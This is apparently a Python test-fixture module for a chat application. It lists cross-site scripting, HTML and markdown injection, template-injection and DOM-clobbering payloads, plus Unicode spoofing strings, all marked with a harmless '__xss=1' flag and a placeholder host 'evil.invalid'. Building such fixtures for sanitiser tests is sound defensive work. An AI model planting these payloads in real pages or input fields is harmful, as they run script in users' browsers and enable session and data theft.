"""Texts that would do something where they are taken for more than text, or that spoil their neighbours.

Whatever runs sets `window.__xss`, or asks a host that does not exist.
"""

RUN = "__xss=1"
ELSEWHERE = "//evil.invalid/x"

# What fits into a name of 40 characters.
SHORT = [
    f"<script>{RUN}</script>",
    f"<SCRIPT >{RUN}</SCRIPT\t>",
    f"<img src=x onerror={RUN}>",
    f"<img/src/onerror={RUN}>",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><script>{RUN}</script>",
    f"<iframe src=javascript:parent.{RUN}>",
    f"<iframe srcdoc='<script>{RUN}'>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video src onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<object data=javascript:{RUN}>",
    f"<embed src=javascript:{RUN}>",
    f"<base href={ELSEWHERE}>",
    f"<link rel=stylesheet href={ELSEWHERE}>",
    f"<img src={ELSEWHERE}>",
    f"<style>@import'{ELSEWHERE}'</style>",
    "<style>*{display:none}</style>",
    "<style>body{background:red",
    f"<meta http-equiv=refresh content=0;{ELSEWHERE}>"[:40],
    f"<form action={ELSEWHERE}><button>",
    f"<button formaction=javascript:{RUN}>",
    f"<math href=javascript:{RUN}>x</math>",
    f'" onmouseover={RUN} x="',
    f"' autofocus onfocus={RUN} x='",
    f'" style=animation-name:x onfocus={RUN} "'[:40],
    f"`;{RUN};`",
    f"${{{RUN}}}",
    f"#{{{RUN}}}",
    "{{7*7}}{% debug %}{{ request }}",
    "{{constructor.constructor('x')()}}",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</template><svg onload={RUN}>",
    f"--><svg onload={RUN}>",
    f"]]><svg onload={RUN}>",
    f"</style><svg onload={RUN}>",
    f"</noscript><svg onload={RUN}>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"<scr<script>ipt>{RUN}</script>",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"<\u200bscript>{RUN}</script>",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{RUN}",
    f"javascript:{RUN}//",
    f"data:text/html,<script>{RUN}",
    "__proto__",
    "constructor",
    "toString",
]

# What markdown might make of it, and what needs more room.
LONG = [
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](java\tscript:{RUN})",
    f"[x](&#106;avascript:{RUN})",
    f"[x](\x01javascript:{RUN})",
    f"[x](data:text/html;base64,PHNjcmlwdD5fX3hzcz0xPC9zY3JpcHQ+ '{RUN}')",
    f"[x](vbscript:{RUN})",
    f"[x]: javascript:{RUN}\n\n[x]",
    f"![x](javascript:{RUN})",
    f"![x](https:{ELSEWHERE})",
    f'![x](x "onerror={RUN}")',
    f"<javascript:{RUN}>",
    f'[x](https:{ELSEWHERE} "\\" onmouseover={RUN} \\"")',
    f'[x](https:{ELSEWHERE}"onmouseover="{RUN})',
    f"https:{ELSEWHERE}<img src=x onerror={RUN}>",
    f'https:{ELSEWHERE}"onfocus="{RUN}"autofocus="',
    f"```html onload={RUN}\n<script>{RUN}</script>\n```",
    f'```"><script>{RUN}</script>\nx\n```',
    f"`<script>{RUN}</script>`",
    f"| <svg onload={RUN}> |\n|---|\n| <img src=x onerror={RUN}> |",
    f"> <img src=x onerror={RUN}>\n- <svg onload={RUN}>",
    f"*<img src=x onerror={RUN}>* **<svg onload={RUN}>**",
    f'<script type="importmap">{{"imports":{{"rooms/app":"{ELSEWHERE}"}}}}</script>',
    f'<link rel="modulepreload" href="{ELSEWHERE}">',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text y=20>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}></svg>#x'/></svg>",
    f"<svg><foreignObject><iframe srcdoc='&lt;script&gt;parent.{RUN}&lt;/script&gt;'></foreignObject></svg>",
    f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
    f"<x-x style='animation-name:x' onanimationstart={RUN}></x-x>",
    f"<message-row onclick={RUN}></message-row><chat-app data-user-staff=true></chat-app>",
    "<img id=chat name=getElementById><form id=chat-app name=body><input name=attributes></form>",
]

# What is no code, but could turn, cover or stretch its neighbours.
RTL = "\u202e gnihtyreve nrut\u202d again \u2066 and never end"
ZERO_WIDTH = "zero\u200bwidth\u200c\u200d\ufeffjoined\u2060" + "\u200b" * 500 + "end"
PILE = "e" + "\u0301" * 9_999
WIDE = "\ufdfd" * 50 + "W" * 2_000
TALL = "tall\n" + "\n".join("." for _ in range(500))
SPOILING = [RTL, ZERO_WIDTH, PILE, WIDE, TALL, "\u0001\u0007\u001b[31mred\u001b[0m"]

EVERY = [*SHORT, *LONG, *SPOILING]
